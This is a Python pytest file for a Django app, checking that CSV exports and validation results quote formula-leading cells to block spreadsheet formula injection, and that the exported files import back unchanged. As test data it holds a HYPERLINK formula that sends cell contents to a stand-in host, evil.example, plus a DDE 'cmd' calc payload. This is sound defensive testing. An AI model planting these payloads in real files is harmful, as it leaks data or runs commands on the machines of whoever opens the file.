"""Finding: the suppression export and the validation result CSV wrote tenant text starting with =, +, -, @
as it came, so a note or an uploaded cell became a formula in whoever opened the file. Every formula cell is
now quoted (core.csv_safe), and the project's own importers read the files back unchanged."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from campaigns.models import Suppression
from campaigns.services.suppression import parse_suppression_csv
from campaigns.tests.page_factories import make_suppression
from hygiene.services import iter_rows, upload_parse
from hygiene.tests.factories import add_zone

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"open")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body, newline="")))


def _no_formula_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"formula cell {cell!r} in {row}"


@pytest.mark.django_db
def test_the_suppression_export_quotes_formula_cells_and_imports_back(
    login, admin_a, tenant_a, settings, django_capture_on_commit_callbacks
):
    settings.CELERY_TASK_ALWAYS_EAGER = True
    make_suppression(tenant_a, "-dash@example.com", detail=EVIL)
    make_suppression(tenant_a, "plus@example.com", detail="+1+cmd|' /C calc'!A0")
    make_suppression(tenant_a, "quote@example.com", detail="'already quoted")
    client = login(admin_a)
    body = b"".join(client.get("/suppression/export.csv").streaming_content)
    rows = _cells(body.decode())
    _no_formula_cells(rows)
    assert rows[1][:3] == ["'-dash@example.com", "manual", "'" + EVIL]

    before = dict(Suppression.objects.filter(tenant=tenant_a).values_list("email", "detail"))
    Suppression.objects.filter(tenant=tenant_a).delete()
    upload = SimpleUploadedFile("export.csv", body, content_type="text/csv")
    with django_capture_on_commit_callbacks(execute=True):  # the upload is imported by a queued job
        job_page = client.post("/suppression/import/", {"file": upload})["Location"]
    report = client.get(job_page).context["report"]
    assert (report.added, report.errors_total) == (3, 0)
    assert dict(Suppression.objects.filter(tenant=tenant_a).values_list("email", "detail")) == before


@pytest.fixture
def dns(dns_server, settings):
    add_zone(dns_server)
    settings.DNS_NAMESERVERS = [dns_server.nameserver]
    settings.CELERY_TASK_ALWAYS_EAGER = True
    return dns_server


def test_the_validation_result_quotes_formula_cells_and_uploads_back(
    login, admin_a, dns, django_capture_on_commit_callbacks
):
    upload = f'name,email,note\n@SUM(1+1),ana@good.example,"{EVIL.replace(chr(34), chr(34) * 2)}"\n'
    client = login(admin_a)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/validation/", {"file": SimpleUploadedFile("l.csv", upload.encode())})
    job_url = response["Location"]
    body = b"".join(client.get(f"{job_url}result.csv").streaming_content)
    rows = _cells(body.decode())
    _no_formula_cells(rows)
    assert rows[1] == ["'@SUM(1+1)", "ana@good.example", "'" + EVIL, "valid", ""]

    # The result file is a valid upload again, with the original values...
    again = upload_parse(data=body)
    original = ["@SUM(1+1)", "ana@good.example", EVIL, "valid", ""]
    assert list(iter_rows(again.text, again.delimiter))[1] == original
    # ...and a valid suppression import.
    assert list(parse_suppression_csv(body).addresses) == ["ana@good.example"]
